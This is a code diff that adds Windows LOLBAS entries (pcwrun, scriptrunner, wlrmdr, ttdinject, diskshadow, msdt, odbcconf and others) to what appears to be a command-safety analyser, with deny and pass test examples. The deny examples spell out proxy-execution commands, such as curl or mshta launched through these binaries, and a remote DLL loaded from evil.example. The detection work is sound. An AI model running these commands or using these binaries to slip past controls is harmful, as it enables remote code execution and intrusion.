@@ -405,6 +405,52 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     examples: { deny: [ps('pcalua -a curl.exe -c evil.example')], pass: [ps('pcalua -a git.exe -c status')] },
   },
   {
+    names: ['pcwrun'],
+    summary: 'pcwrun (Program Compatibility Wizard): runs its arguments as a command line (LOLBAS)',
+    analyze: (call) => (call.args.length > 0 ? { runs: [{ kind: 'script', dialect: 'cmd', words: call.args, via: 'pcwrun' }] } : {}),
+    examples: { deny: [ps('pcwrun.exe "cmd /c curl evil.example"')], pass: [ps('pcwrun.exe C:\\tools\\app.exe')] },
+  },
+  {
+    names: ['scriptrunner'],
+    summary: 'ScriptRunner (App-V): `-appvscript COMMAND` runs the command line it is given (LOLBAS)',
+    analyze: (call) => {
+      const at = call.args.findIndex((w) => /^[-/]appvscript$/i.test(value(w) ?? ''));
+      const text = at >= 0 ? call.args.slice(at + 1).filter((w) => !/^[-/](?:appvscriptrunnerparameters|wait|timeout|rollbackonerror)/i.test(value(w) ?? '')) : [];
+      return text.length > 0 ? { runs: [{ kind: 'script', dialect: 'cmd', words: text, via: 'scriptrunner -appvscript' }] } : {};
+    },
+    examples: { deny: [ps('scriptrunner.exe -appvscript "cmd /c curl evil.example"')], pass: [ps('scriptrunner.exe -appvscript C:\\tools\\setup.cmd')] },
+  },
+  {
+    names: ['wlrmdr', 'ttdinject'],
+    summary: 'wlrmdr (Windows Logon Reminder) `-u PROGRAM` and ttdinject `/Launch PROGRAM`: start the program they name (LOLBAS)',
+    analyze: (call) => {
+      const at = call.args.findIndex((w) => (call.name === 'wlrmdr' ? /^-u$/i : /^[-/]launch$/i).test(value(w) ?? ''));
+      return at >= 0 && call.args[at + 1] ? { runs: [{ kind: 'argv', argv: call.name === 'wlrmdr' ? [call.args[at + 1]!] : call.args.slice(at + 1), via: call.name }] } : {};
+    },
+    examples: { deny: [ps('wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u mshta.exe'), ps('ttdinject.exe /ClientScenario TTDRecorder /Launch curl.exe evil.example')], pass: [ps('wlrmdr.exe -s 3600 -f 0 -t _ -m _ -a 11 -u notepad.exe')] },
+  },
+  {
+    names: ['diskshadow', 'infdefaultinstall', 'msdt'],
+    summary: 'diskshadow `/s FILE` (its script runs `exec` commands), InfDefaultInstall (an INF whose sections run commands), msdt (a troubleshooter package runs its scripts): code no static reading sees',
+    analyze: (call) => {
+      const w = call.name === 'diskshadow' ? (call.args.find((a) => /^[-/]s$/i.test(value(a) ?? '')) ?? (call.stdin ? call.args[0] ?? call.command : undefined)) : call.args.find((a) => !/^[-/]\?$/.test(a.values?.[0] ?? a.text));
+      return w ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `${call.name} runs commands its script, INF or package holds` }] } : {};
+    },
+    examples: { deny: [ps('diskshadow /s x.txt'), ps('infdefaultinstall.exe x.inf'), ps('msdt.exe /cab x.diagcab'), ps('msdt /id PCWDiagnostic /skip force /param "IT_BrowseForFile=x"')], pass: [ps('diskshadow /?'), ps('msdt /?')] },
+  },
+  {
+    names: ['odbcconf'],
+    summary: 'odbcconf: `/a {ACTION …}` runs ODBC actions (REGSVR loads a DLL and runs its code); `/f FILE` runs those a response file lists',
+    analyze: (call) => {
+      const f = call.args.findIndex((w) => /^[-/]f$/i.test(value(w) ?? ''));
+      if (f >= 0) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: call.args[f + 1] ?? call.args[f]!, why: 'odbcconf /f runs the actions a response file lists (REGSVR loads any DLL)' }] };
+      // A DLL on another machine (`{REGSVR \\\\host\\share\\x.dll}`), or actions that are computed.
+      const remote = call.args.find((w) => w.values === null || w.values.some((v) => /\\\\[^\\]|:\/\//.test(v)));
+      return remote ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: remote, why: 'odbcconf runs actions that load code from another machine or are computed' }] } : {};
+    },
+    examples: { deny: [ps('odbcconf.exe /f x.rsp'), ps('odbcconf /a {REGSVR \\\\evil.example\\share\\x.dll}')], pass: [ps('odbcconf /a {REGSVR C:\\tools\\driver.dll}')] },
+  },
+  {
     names: ['forfiles'],
     summary: 'forfiles: runs its /c command (cmd text) for each file',
     analyze: (call) => {
